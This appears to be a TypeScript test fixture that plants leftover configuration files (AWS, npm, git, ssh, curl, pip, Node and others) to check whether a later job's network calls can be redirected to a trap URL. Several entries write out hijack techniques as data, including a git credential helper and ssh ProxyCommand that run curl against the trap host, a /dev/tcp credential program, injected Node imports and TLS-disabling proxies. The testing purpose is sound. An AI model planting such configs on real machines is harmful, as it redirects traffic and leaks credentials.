/** What an earlier job can leave on a machine so that the calls of a later one go elsewhere: one trap for each kind. */
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

/** Where a trap is put, and where it leads. */
interface Place {
  home: string
  /** A folder that only a variable names. */
  folder: string
  /** The working directory of the step. */
  work: string
  /** Of the trap. */
  url: string
}

/** Plants a trap; returns the variables that belong to it. */
type Plant = (place: Place) => Record<string, string>

/** Settings that change where calls go, or that make the SDK refuse to work. */
const settings = (url: string) => `
endpoint_url = ${url}
ignore_configured_endpoint_urls = false
use_fips_endpoint = true
use_dualstack_endpoint = true
region = us-gov-west-1
defaults_mode = nonsense
retry_mode = nonsense
max_attempts = nonsense
sts_regional_endpoints = nonsense
ec2_metadata_service_endpoint = ${url}
account_id_endpoint_mode = nonsense
request_checksum_calculation = nonsense
sdk_ua_app_id = nonsense
`
const services = (url: string) =>
  `\n[services trap]\n${['sts', 'secrets_manager', 'ecs'].map((id) => `${id} =\n  endpoint_url = ${url}\n`).join('')}`

/** Writes into the home folder. */
const inHome =
  (path: string, text: (url: string) => string, env: Record<string, string> = {}): Plant =>
  ({ home, url }) => {
    write(join(home, path), text(url))
    return env
  }

/** A file in the folder that a variable names. */
const named =
  (variable: string, text: (url: string) => string): Plant =>
  ({ folder, url }) => ({ [variable]: write(join(folder, variable.toLowerCase()), text(url)) })

const config = (text: (url: string) => string, env?: Record<string, string>) => inHome('.aws/config', text, env)
const defaultProfile = (url: string) => `[default]${settings(url)}`

/** By kind. The AWS SDK on its own sends its first call into those that begin with `AWS: `, which a test shows. */
export const TRAPS: Readonly<Record<string, Plant>> = {
  'AWS: an endpoint in the default profile': config((url) => `[default]\nendpoint_url = ${url}\n`),
  'AWS: a section of services': config((url) => `[default]\nservices = trap\n${services(url)}`),
  'AWS: the credentials file': inHome('.aws/credentials', (url) => `[default]\nendpoint_url = ${url}\n`),
  'AWS: a profile in AWS_PROFILE': config((url) => `[profile old]\nendpoint_url = ${url}\n`, { AWS_PROFILE: 'old' }),
  'AWS: services of a profile in AWS_PROFILE': config((url) => `[profile old]\nservices = trap\n${services(url)}`, {
    AWS_PROFILE: 'old',
  }),
  'AWS: a file in AWS_CONFIG_FILE': named('AWS_CONFIG_FILE', (url) => `[default]\nendpoint_url = ${url}\n`),
  'AWS: a file in AWS_SHARED_CREDENTIALS_FILE': named(
    'AWS_SHARED_CREDENTIALS_FILE',
    (url) => `[default]\nendpoint_url = ${url}\n`,
  ),
  'every setting at once': config(defaultProfile),
  'lines outside of any profile': config(settings),
  'a profile that does not exist': config(defaultProfile, { AWS_PROFILE: 'nowhere' }),
  'a profile in AWS_DEFAULT_PROFILE': config((url) => `[profile old]${settings(url)}`, { AWS_DEFAULT_PROFILE: 'old' }),
  'FIPS and dual-stack endpoints': config(() => '[default]\nuse_fips_endpoint = true\nuse_dualstack_endpoint = true\n'),
  'settings of single services in a profile': config(
    (url) =>
      `[default]\n${['s3', 'sts', 'secretsmanager', 'ecs'].map((id) => `${id} =\n  endpoint_url = ${url}\n`).join('')}`,
  ),
  'a program for credentials': ({ home, url }) => {
    const { port } = new URL(url)
    const program = write(join(home, 'credentials.sh'), `#!/bin/bash\n: > /dev/tcp/127.0.0.1/${port}\n`)
    chmodSync(program, 0o755)
    write(join(home, '.aws/config'), `[default]\ncredential_process = ${program}\n`)
    return {}
  },
  'a role to assume first': ({ home, url }) => {
    const token = write(join(home, 'token'), 'x')
    const role = 'role_arn = arn:aws:iam::123456789012:role/x'
    write(
      join(home, '.aws/config'),
      `[default]\nendpoint_url = ${url}\n${role}\nsource_profile = a\n[profile a]\n${role}\nweb_identity_token_file = ${token}\n`,
    )
    return { AWS_SDK_LOAD_CONFIG: '1' }
  },
  'a session of SSO': ({ home, url }) => {
    const cached = { accessToken: 'x', expiresAt: '2099-01-01T00:00:00Z', region: 'eu-west-1', startUrl: url }
    write(join(home, '.aws/sso/cache/d033e22ae348aeb5660fc2140aec35850c4da997.json'), JSON.stringify(cached))
    write(
      join(home, '.aws/config'),
      `[default]\nendpoint_url = ${url}\nsso_session = admin\nsso_account_id = 123456789012\nsso_role_name = x\n[sso-session admin]\nsso_start_url = ${url}\nsso_region = eu-west-1\n`,
    )
    return {}
  },
  'a session of `aws login`': config(
    (url) => `[default]\nendpoint_url = ${url}\nlogin_session = arn:aws:iam::1:user/x\n`,
  ),
  'a bundle of CAs': ({ home, folder, url }) => {
    const ca = write(join(folder, 'trap.pem'), 'not a certificate')
    write(join(home, '.aws/config'), `[default]\nca_bundle = ${ca}\nendpoint_url = ${url}\n`)
    return { AWS_CA_BUNDLE: ca }
  },
  'the endpoint of instance metadata': ({ home, url }) => {
    write(
      join(home, '.aws/config'),
      `[default]\nec2_metadata_service_endpoint = ${url}\ncredential_source = Ec2InstanceMetadata\n`,
    )
    return { AWS_EC2_METADATA_SERVICE_ENDPOINT: url, AWS_CONTAINER_CREDENTIALS_FULL_URI: `${url}/credentials` }
  },
  'a home folder in USERPROFILE': ({ folder, url }) => {
    write(join(folder, 'profile/.aws/config'), defaultProfile(url))
    return { USERPROFILE: join(folder, 'profile'), HOMEDRIVE: folder, HOMEPATH: '/profile' }
  },
  'a file that is not text': ({ home }) => {
    mkdirSync(join(home, '.aws'), { recursive: true })
    writeFileSync(join(home, '.aws/config'), Buffer.from([0, 255, 0, 91]))
    mkdirSync(join(home, '.aws/credentials'))
    return {}
  },
  'npm: .npmrc in the home folder': inHome('.npmrc', npm),
  'npm: .npmrc in the working directory': ({ work, url }) => written(join(work, '.npmrc'), npm(url)),
  'npm: a file in NPM_CONFIG_USERCONFIG': named('NPM_CONFIG_USERCONFIG', npm),
  netrc: inHome('.netrc', () => 'default login trap password trapped\n'),
  'netrc: a file in NETRC': named('NETRC', () => 'default login trap password trapped\n'),
  curl: inHome('.curlrc', (url) => `proxy = "${url}"\n`),
  wget: inHome('.wgetrc', (url) => `use_proxy = on\nhttps_proxy = ${url}\n`),
  'git: .gitconfig': inHome('.gitconfig', git),
  'git: the file in XDG_CONFIG_HOME': inHome('.config/git/config', git),
  'git: a file in GIT_CONFIG_GLOBAL': named('GIT_CONFIG_GLOBAL', git),
  ssh: inHome('.ssh/config', (url) => `Host *\n  ProxyCommand curl ${url}\n`),
  docker: inHome('.docker/config.json', (url) =>
    JSON.stringify({ proxies: { default: { httpProxy: url, httpsProxy: url } } }),
  ),
  pip: inHome('.config/pip/pip.conf', (url) => `[global]\nproxy = ${url}\nindex-url = ${url}\n`),
  'a .env file in the working directory': ({ work, url }) =>
    written(join(work, '.env'), `HTTPS_PROXY=${url}\nHF_ENDPOINT=${url}\nAWS_ENDPOINT_URL=${url}\n`),
  'node: node.config.json in the working directory': ({ work, url }) =>
    written(
      join(work, 'node.config.json'),
      JSON.stringify({ nodeOptions: { import: [`data:text/javascript,fetch('${url}')`] } }),
    ),
  'node: package.json and a module in the working directory': ({ work, url }) => {
    write(join(work, 'package.json'), JSON.stringify({ type: 'module', imports: { '#x': url } }))
    return written(join(work, 'node_modules/jose/index.js'), `fetch('${url}')\n`)
  },
  'the Hub’s client: a stored token': inHome('.cache/huggingface/stored_tokens', () => '[trap]\nhf_token = trapped\n'),
}

function npm(url: string): string {
  return `registry=${url}\nproxy=${url}\nhttps-proxy=${url}\nnoproxy=\ncafile=/nowhere\nstrict-ssl=false\n`
}

function git(url: string): string {
  return `[http]\n\tproxy = ${url}\n\tsslVerify = false\n[url "${url}/"]\n\tinsteadOf = https://\n[credential]\n\thelper = "!curl ${url}"\n`
}

function write(path: string, text: string): string {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
  return path
}

/** {@link write}, without variables. */
function written(path: string, text: string): Record<string, string> {
  write(path, text)
  return {}
}
